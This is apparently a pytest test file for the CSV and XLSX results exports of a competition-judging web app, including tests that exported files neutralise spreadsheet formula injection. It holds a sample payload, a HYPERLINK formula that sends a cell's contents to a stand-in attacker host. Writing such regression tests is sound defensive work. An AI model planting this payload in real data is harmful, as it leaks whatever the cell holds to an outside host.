"""CSV and XLSX exports of results: every category, full names, each judge's total."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def test_category_csv_has_full_names_and_judge_totals(client, organiser, make_edition, mark_all, mark):
    edition = make_edition()  # hidden: organisers export it anyway
    category = edition.categories[0]
    mark_all(category, [9, 8, 7])
    mark(category.entries[2], category.judges[1], 6)  # one judge thinks less of the third
    response = client.get(f"/admin/editions/{edition.id}/results/{category.id}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Place", "No.", "Name"]
    assert [h for h in header if h.startswith("Judge total")] == [f"Judge total: Judge {i}" for i in (1, 2, 3)]
    assert body[0][2] == "Әлия Қасымова 1" and body[0][0] == "1"
    third = next(r for r in body if r[2] == "Әлия Қасымова 3")
    totals = third[header.index("Judge total: Judge 1"):header.index("Notes")]
    assert totals == ["7", "6", "7"]
    assert response.headers["Cache-Control"] == "no-store"


def test_edition_xlsx_one_sheet_per_category(client, organiser, make_edition, mark_all):
    edition = make_edition(entries=2)
    mark_all(edition.categories[0], [10, 8])
    response = client.get(f"/admin/editions/{edition.id}/results/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    [sheet] = book.worksheets
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Place", "No.", "Name"]
    assert values[1][2] == "Әлия Қасымова 1" and values[1][values[0].index("Score")] == 10
    assert values[1][values[0].index("Award")] == "Grand Prix"


def test_edition_csv_has_a_category_column(client, organiser, make_edition, mark_all):
    edition = make_edition(entries=2)
    mark_all(edition.categories[0], [9, 8])
    text = client.get(f"/admin/editions/{edition.id}/results/export.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Category" and rows[1][0] == edition.categories[0].label("en")
    assert len(rows) == 3


def test_unknown_format_is_404(client, organiser, make_edition):
    edition = make_edition()
    assert client.get(f"/admin/editions/{edition.id}/results/export.pdf").status_code == 404


@pytest.fixture
def poisoned(make_edition, mark_all, db):
    edition = make_edition(entries=2)
    category = edition.categories[0]
    category.entries[0].institution = HYPERLINK
    db.session.commit()
    mark_all(category, [9, 8])
    return edition


def test_results_csv_has_no_formula(client, organiser, poisoned):
    category = poisoned.categories[0]
    for url in (f"/admin/editions/{poisoned.id}/results/{category.id}/export.csv",
                f"/admin/editions/{poisoned.id}/results/export.csv"):
        rows = list(csv.reader(io.StringIO(client.get(url).data.decode("utf-8-sig"))))
        column = rows[0].index("Institution")
        assert "'" + HYPERLINK in [r[column] for r in rows[1:]]
        assert not any(cell.startswith("=") for r in rows for cell in r)


def test_results_xlsx_has_no_formula_and_keeps_numbers(client, organiser, poisoned):
    data = client.get(f"/admin/editions/{poisoned.id}/results/export.xlsx").data
    [sheet] = load_workbook(io.BytesIO(data)).worksheets
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    cells = [r[header.index("Institution")] for r in rows[1:]]
    assert ("'" + HYPERLINK, "s") in [(c.value, c.data_type) for c in cells]
    assert all(c.data_type != "f" for r in rows for c in r)
    assert rows[1][header.index("Score")].value == 9
